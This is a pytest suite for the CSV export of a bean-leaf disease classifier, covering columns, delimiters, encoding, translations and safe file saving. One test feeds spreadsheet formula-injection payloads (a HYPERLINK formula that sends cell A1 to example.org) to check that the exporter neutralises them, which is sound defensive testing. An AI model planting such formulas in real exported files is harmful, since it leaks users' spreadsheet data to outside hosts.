"""The table is parsed back as a spreadsheet would read it."""

from __future__ import annotations

import csv
import os
import re
import time
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from beanleaf_app.errors import HistoryError
from beanleaf_app.history.csv_table import TableWords, csv_bytes, save_file
from beanleaf_app.history.record import Outcome
from tests.history.records import record


def read(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.fixture
def nairobi(monkeypatch: pytest.MonkeyPatch):
    if not hasattr(time, "tzset"):
        pytest.skip("this system cannot be told another time zone")
    monkeypatch.setenv("TZ", "EAT-3")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def test_every_value_is_in_its_column(nairobi):
    rows = [
        record(1, correction="healthy"),
        record(
            2,
            outcome=Outcome.UNREADABLE,
            error="It is damaged.",
            probability_sick=None,
            probabilities=None,
            disease=None,
            model=None,
            path=None,
        ),
        record(3, probabilities={"healthy": 0.25, "mosaic": 0.75}, disease="mosaic"),
    ]
    heading, first, second, third = read(csv_bytes(rows))
    assert heading == [
        "File",
        "Folder",
        "Verdict",
        "Chance of being sick",
        "Disease",
        "Chance of angular_leaf_spot",
        "Chance of bean_rust",
        "Chance of healthy",
        "Chance of mosaic",
        "Marked as",
        "Model",
        "Time",
        "Error",
    ]
    assert first == [
        "leaf 1.jpg",
        str(Path("/photos/field")),
        "sick",
        "0.850000",
        "bean_rust",
        "0.100000",
        "0.750000",
        "0.150000",
        "",
        "healthy",
        "Beans",
        "2026-03-01 15:00:01",
        "",
    ]
    assert second == ["leaf 2.jpg", "", "unreadable", *[""] * 8, "2026-03-01 15:00:02", "It is damaged."]
    assert third[5:9] == ["", "", "0.250000", "0.750000"]


def test_where_the_decimal_sign_is_a_comma_cells_are_divided_by_semicolons():
    content = csv_bytes([record(1)], decimal_comma=True)
    heading, row = read(content, ";")
    assert len(heading) == len(row) == 12
    assert row[3] == "0,850000"


def test_excel_is_told_the_encoding_and_lines_end_as_the_standard_says():
    content = csv_bytes([record(1, name="Blätter, «mbaya».jpg")])
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\r\n") == content.count(b"\n") == 2
    assert read(content)[1][0] == "Blätter, «mbaya».jpg"


def test_words_of_another_language_are_used():
    words = TableWords(
        file="Fichier",
        class_chance="Chance de {name}",
        outcome_of={"sick": "Malade"},
        class_name=lambda name: {"bean_rust": "Rouille"}.get(name, name),
        correction_of=str.upper,
    )
    heading, row = read(csv_bytes([record(1, correction="healthy")], words=words))
    assert heading[0] == "Fichier"
    assert "Chance de Rouille" in heading
    assert row[2] == "Malade"
    assert row[4] == "Rouille"
    assert row[8] == "HEALTHY"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_no_cell_is_taken_for_a_formula(start: str):
    evil = f'{start}HYPERLINK("http://example.org?x="&A1;"click")'
    row = read(csv_bytes([record(1, name=evil, model=evil, error=evil, disease=evil)]))[1]
    assert row[0] == row[-1] == row[4] == f"'{evil}"


@given(
    st.text(st.characters(codec="utf-8", exclude_characters="\0")),
    st.text(st.characters(codec="utf-8", exclude_characters="\0")),
    st.booleans(),
)
def test_any_text_comes_back_as_it_was(name: str, error: str, decimal_comma: bool):
    content = csv_bytes([record(1, name=name, error=error)], decimal_comma=decimal_comma)
    heading, row = read(content, ";" if decimal_comma else ",")
    assert len(row) == len(heading)
    assert row[0].removeprefix("'") == name.removeprefix("'")
    assert row[-1].removeprefix("'") == error.removeprefix("'")


def test_a_name_that_is_not_unicode_is_readable():
    name = os.fsdecode(b"leaf \xff.jpg")
    assert read(csv_bytes([record(1, name=name)]))[1][0] in ("leaf \ufffd.jpg", name)


def test_a_table_of_nothing_has_its_headings():
    assert len(read(csv_bytes([]))) == 1


def test_a_table_that_cannot_be_saved_leaves_the_old_one(tmp_path: Path):
    target = tmp_path / "results.csv"
    save_file(target, b"old")
    save_file(target, b"new")
    assert target.read_bytes() == b"new"
    with pytest.raises(HistoryError, match="choose another folder"):
        save_file(tmp_path / "gone" / "results.csv", b"x")
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(HistoryError):
        save_file(tmp_path / "folder.csv", b"x")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["folder.csv", "results.csv"]


@pytest.mark.parametrize("decimal_comma", [True, False])
def test_no_cell_falls_apart_in_a_program_that_divides_at_commas_and_semicolons(decimal_comma: bool) -> None:
    """LibreOffice begins with both, whatever the file means."""
    rows = [record(0, name="one, two; three.jpg", probability_sick=0.85)]
    lines = csv_bytes(rows, decimal_comma=decimal_comma).decode("utf-8-sig").splitlines()
    heading, row = (re.findall(r'(?:^|[,;\t])("(?:[^"]|"")*"|[^,;\t"]*)', line) for line in lines)
    assert len(heading) == len(row)
    assert '"one, two; three.jpg"' in row
    assert ('"0,850000"' if decimal_comma else '"0.850000"') in row
